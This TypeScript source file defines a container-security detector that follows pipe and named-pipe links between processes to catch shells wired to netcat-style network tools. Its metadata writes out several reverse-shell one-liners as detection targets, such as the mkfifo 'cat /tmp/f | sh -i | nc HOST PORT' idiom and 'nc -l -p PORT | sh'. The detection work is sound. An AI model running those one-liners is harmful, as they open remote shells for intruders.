import type { ContainerEvidence } from '@shared/domain/evidence-set.js';
import type { SocketInfo } from '@shared/domain/network.js';
import type { ProcessInfo } from '@shared/domain/process.js';
import type { Detector, Hit } from '../detector.js';
import { SHELLS } from '../lib/commands.js';
import { processesOf, runsAs } from '../lib/process.js';
import { oneLine, ref } from '../lib/refs.js';
import { endpoint, socketByInode } from '../lib/sockets.js';

/** Targets on stdio that never join two processes of a pipeline. */
const NOT_A_CHANNEL = /^\/dev\/(null|zero|u?random|pts\/|tty|console|full)|^\/proc\/|^\/sys\/|^socket:|^anon_inode:/;
const INTERPRETER = /^(python[0-9.]*|perl[0-9.]*|ruby|php[0-9.]*|lua[0-9.]*|node)$/;
/** Socket states of a connection or listener that still carries a session. */
const LIVE = new Set(['ESTABLISHED', 'SYN_SENT', 'SYN_RECV', 'LISTEN', 'CLOSE_WAIT', 'UNCONN']);
const MAX_HOPS = 6;

/**
 * Does this interpreter take its program from standard input? `sh`, `sh -i`, `sh -s`, `bash -`, `python3` do;
 * `sh -c '...'` and `sh script.sh` read stdin as data.
 */
export function readsProgramFromStdin(p: ProcessInfo): boolean {
  const args = p.cmdline.trim().split(/\s+/).slice(1);
  for (const a of args) {
    if (a === '-') return true;
    if (a === '-c' || a === '-e' || a === '-m' || /^-[a-z]*c$/i.test(a)) return false;
    if (!a.startsWith('-')) return false;
  }
  return true;
}

const isInterpreter = (p: ProcessInfo): boolean => {
  const n = runsAs(p);
  return (SHELLS.has(n) && n !== 'busybox') || INTERPRETER.test(n);
};
/** `sh -i`, `bash -il`: the options before the first operand ask for an interactive shell. */
function interactive(p: ProcessInfo): boolean {
  for (const a of p.cmdline.trim().split(/\s+/).slice(1)) {
    if (!a.startsWith('-') || a.startsWith('--') || a === '-c') return false;
    if (a.includes('i')) return true;
  }
  return false;
}

const channelOf = (t: string | undefined): string | undefined => (t && !NOT_A_CHANNEL.test(t) ? t : undefined);

/**
 * Pipeline edges from the fd links the host reads: A → B when what A writes on stdout or stderr is what B reads on
 * stdin (the same pipe:[inode], or the same named pipe), or a named pipe A writes on stdout and B holds open (the
 * `cat /tmp/f` of the mkfifo idiom). Shared writers of one pipe (every process writing to the engine's log pipe) are
 * not joined: only a writer and a reader are.
 */
export function pipelineEdges(list: ProcessInfo[]): Map<number, ProcessInfo[]> {
  const readersByStdin = new Map<string, ProcessInfo[]>();
  const holdersByPath = new Map<string, ProcessInfo[]>();
  for (const p of list) {
    const inCh = channelOf(p.stdio?.[0]);
    if (inCh) readersByStdin.set(inCh, [...(readersByStdin.get(inCh) ?? []), p]);
    for (const f of p.fdPaths ?? []) holdersByPath.set(f, [...(holdersByPath.get(f) ?? []), p]);
  }
  const edges = new Map<number, ProcessInfo[]>();
  for (const p of list) {
    const out = new Set<ProcessInfo>();
    for (const t of [p.stdio?.[1], p.stdio?.[2]]) {
      const ch = channelOf(t);
      if (!ch) continue;
      for (const r of readersByStdin.get(ch) ?? []) if (r !== p) out.add(r);
      if (ch.startsWith('/')) for (const r of holdersByPath.get(ch) ?? []) if (r !== p) out.add(r);
    }
    if (out.size) edges.set(p.pid, [...out]);
  }
  return edges;
}

/** The network connection or listener a process holds, if any (newest snapshot first). */
function networkSocketOf(c: ContainerEvidence, p: ProcessInfo): SocketInfo | undefined {
  for (const inode of p.socketInodes ?? []) {
    const s = socketByInode(c, inode);
    if (s && LIVE.has(s.state)) return s;
  }
  return undefined;
}

/** Shortest pipeline path from one process to another along the edges, as the processes on it. */
function path(
  edges: Map<number, ProcessInfo[]>,
  from: ProcessInfo,
  to: (p: ProcessInfo) => boolean,
): ProcessInfo[] | undefined {
  const queue: ProcessInfo[][] = [[from]];
  const seen = new Set([from.pid]);
  while (queue.length) {
    const route = queue.shift()!;
    if (route.length > MAX_HOPS + 1) return undefined;
    for (const next of edges.get(route[route.length - 1]!.pid) ?? []) {
      if (seen.has(next.pid)) continue;
      seen.add(next.pid);
      const r = [...route, next];
      if (to(next)) return r;
      queue.push(r);
    }
  }
  return undefined;
}

const chain = (route: ProcessInfo[]) => route.map((p) => `${oneLine(runsAs(p), 30)}(${p.pid})`).join(' → ');

/** A shell wired through pipes or a named pipe to a process that holds a network connection or listener. */
export const shellPipeline: Detector = {
  meta: {
    id: 'shell-pipeline',
    title: 'Shell wired to a network tool through pipes (netcat pipeline)',
    strategy: ['ADS-c2-abuse', 'ADS-evasion'],
    attack: ['T1059.004', 'T1095'],
    severity: 'critical',
    kind: 'live',
    dataSources: [
      'host /proc/PID/fd links of every container process: pipe:[inode] and named-pipe paths on stdin, stdout and stderr, and named pipes held on other fds',
      'socket inodes held per process, matched to /proc/net/tcp{,6} and udp{,6} rows of the container network namespace (any snapshot)',
    ],
    goal: 'Catch the netcat pipelines that keep the shell off the socket: `cat /tmp/f | sh -i 2>&1 | nc HOST PORT > /tmp/f` (mkfifo), `sh -i < /tmp/f 2>&1 | nc ... > /tmp/f`, `nc -l -p PORT | sh`, `nc HOST P1 | sh | nc HOST P2`, and the same with socat, telnet or openssl. The fd links are followed from writer to reader across processes, so the tool that holds the connection or listener is tied to the shell that reads its commands or sends its output, whatever the tool is called.',
    blindSpots: [
      'Only pipelines alive at collection time are seen; host access to /proc is needed (over a remote engine API only the command-line patterns of reverse-shell and command-override apply).',
      "A socat EXEC child is joined to socat by a socketpair, not a pipe: its unix-socket peer is not resolved here, and reverse-shell matches socat's command line instead.",
      'Named pipes are followed only when the writer has them on stdout or stderr and the reader holds them among its first 32 file descriptors.',
    ],
    falsePositives: [
      'A shell piping to grep or tee, a dev server whose output goes through a pipe to a log shipper: no shell reads from or writes to a network holder, so nothing is reported.',
      'A shell loop whose output is pushed to a metrics or log endpoint with nc (`while :; do date; sleep 5; done | nc metrics 2003`) reads no commands from the network and is reported as low. Suppress it by image with a `ref` glob on `pipeline-out:*`.',
    ],
    response: [
      'Record the remote endpoint or listening port and the pipeline (pids, command lines), then isolate the container from the network and preserve the processes before stopping it.',
      'Walk up from the pipeline to what started it (exec session, web server child, cron) to find the entry point, and look for the same endpoint elsewhere.',
    ],
  },
  detect(ev) {
    const hits: Hit[] = [];
    for (const c of ev.containers) {
      const list = processesOf(c).list.filter((p) => p.stdio);
      if (!list.length) continue;
      const edges = pipelineEdges(list);
      const net = new Map(
        list
          .map((p) => [p.pid, networkSocketOf(c, p)] as const)
          .filter((x): x is [number, SocketInfo] => x[1] !== undefined),
      );
      const holdsNet = (p: ProcessInfo) => net.has(p.pid);
      for (const sh of list.filter(isInterpreter)) {
        if (holdsNet(sh)) continue; // a shell on the socket itself is reverse-shell's
        const takesProgram = readsProgramFromStdin(sh);
        const inbound = takesProgram
          ? list
              .filter(holdsNet)
              .map((n) => path(edges, n, (p) => p === sh))
              .find((r) => r !== undefined)
          : undefined;
        const outbound = path(edges, sh, holdsNet);
        if (!inbound && !outbound) continue;
        const tool = (inbound?.[0] ?? outbound![outbound!.length - 1])!;
        const sock = net.get(tool.pid)!;
        const where =
          sock.state === 'LISTEN'
            ? `listening on ${endpoint(sock, 'local')}`
            : `connected to ${endpoint(sock, 'remote')}`;
        const evidence = [...new Set([...(inbound ?? []), ...(outbound ?? [])])].map((p) =>
          ref(
            'process',
            `pid ${p.pid}`,
            `${oneLine(p.cmdline || p.comm, 200)} | fd0-2: ${(p.stdio ?? []).map((t) => oneLine(t, 60)).join(', ')}${p.fdPaths?.length ? ` | open: ${oneLine(p.fdPaths.slice(0, 4).join(', '), 120)}` : ''}`,
          ),
        );
        evidence.push(
          ref(
            'socket',
            `${sock.protocol} ${endpoint(sock, 'local')} -> ${endpoint(sock, 'remote')}`,
            `${sock.state} inode ${sock.inode}, held by ${oneLine(runsAs(tool), 40)} (pid ${tool.pid})`,
          ),
        );
        const shellName = oneLine(sh.cmdline || runsAs(sh), 60);
        if (inbound) {
          hits.push({
            container: c,
            ref: `pipeline-in:${runsAs(sh)}:${runsAs(tool)}:${sock.state === 'LISTEN' ? endpoint(sock, 'local') : endpoint(sock, 'remote')}`,
            summary: `Shell ${shellName} (pid ${sh.pid}) in ${c.container.name} reads its commands from ${oneLine(runsAs(tool), 30)} ${where}, through pipes ${chain(inbound)}${outbound ? `, and its output goes back through ${chain(outbound)}` : ''}.`,
            evidence,
            attack: ['T1059.004', 'T1095'],
          });
        } else if (takesProgram || interactive(sh)) {
          hits.push({
            container: c,
            ref: `pipeline-out:${runsAs(sh)}:${runsAs(tool)}:${endpoint(sock, sock.state === 'LISTEN' ? 'local' : 'remote')}`,
            summary: `Interactive shell ${shellName} (pid ${sh.pid}) in ${c.container.name} sends its output to ${oneLine(runsAs(tool), 30)} ${where}, through pipes ${chain(outbound!)}.`,
            evidence,
            severity: 'high',
            attack: ['T1059.004', 'T1095'],
          });
        } else {
          hits.push({
            container: c,
            ref: `pipeline-out:${runsAs(sh)}:${runsAs(tool)}:${endpoint(sock, sock.state === 'LISTEN' ? 'local' : 'remote')}`,
            summary: `Shell script ${shellName} (pid ${sh.pid}) in ${c.container.name} pipes its output to ${oneLine(runsAs(tool), 30)} ${where} (${chain(outbound!)}); it reads no commands from the network.`,
            evidence,
            severity: 'low',
            attack: ['T1095'],
          });
        }
      }
    }
    return hits;
  },
};
